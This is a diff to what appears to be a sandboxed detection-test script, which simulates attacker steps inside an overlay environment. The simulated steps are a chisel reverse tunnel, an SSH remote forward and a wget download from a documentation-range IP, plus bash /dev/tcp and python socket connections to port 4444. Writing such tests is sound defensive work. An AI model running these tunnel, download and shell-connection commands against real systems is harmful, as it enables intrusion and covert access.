@@ -24,8 +24,9 @@ for dir in /etc /root /usr /opt /var; do
 	mount -t overlay -o "lowerdir=$dir,upperdir=$ROOM/upper$dir,workdir=$ROOM/work$dir" overlay $dir || exit 1
 done
 mount -t tmpfs -o mode=1777 shm /dev/shm 2>/dev/null || { mkdir -p /dev/shm; mount -t tmpfs shm /dev/shm; }
-mkdir -p "$ROOM/tools" /root/.ssh /root/.aws /home/.scenario 2>/dev/null
-ip link set lo up 2>/dev/null
+mkdir -p "$ROOM/tools" /root/.ssh /root/.aws /home/.scenario /etc/sudoers.d 2>/dev/null
+LOOPBACK=
+ip link set lo up 2>/dev/null && LOOPBACK=here
 ip address add 169.254.169.254/32 dev lo 2>/dev/null && METADATA=here
 mount -t tmpfs -o mode=1777 tmp /var/tmp
 exec 9>>"$LEDGER"
@@ -133,7 +134,7 @@ step "Tunnel or anonymising tool run" "$(stand_in chisel)" client 203.0.113.9 R:
 step "SSH client asked for a tunnel or an unusual port" "$(stand_in ssh)" -R 9:localhost:22 x@203.0.113.9
 step "Download into a temporary directory" "$(stand_in wget)" -O /tmp/x http://203.0.113.9/x
 step "Shell opened a network connection" bash -c 'exec 8<>/dev/tcp/127.0.0.1/4444'
-if has python3; then
+if has python3 && [ -n "$LOOPBACK" ]; then
 	step "One-liner opened a network connection" python3 -c 'import socket
 s = socket.socket(); s.settimeout(1); s.connect_ex(("127.0.0.1", 4444))'
 	step "Listener opened by netcat or a one-liner" python3 -c 'import socket
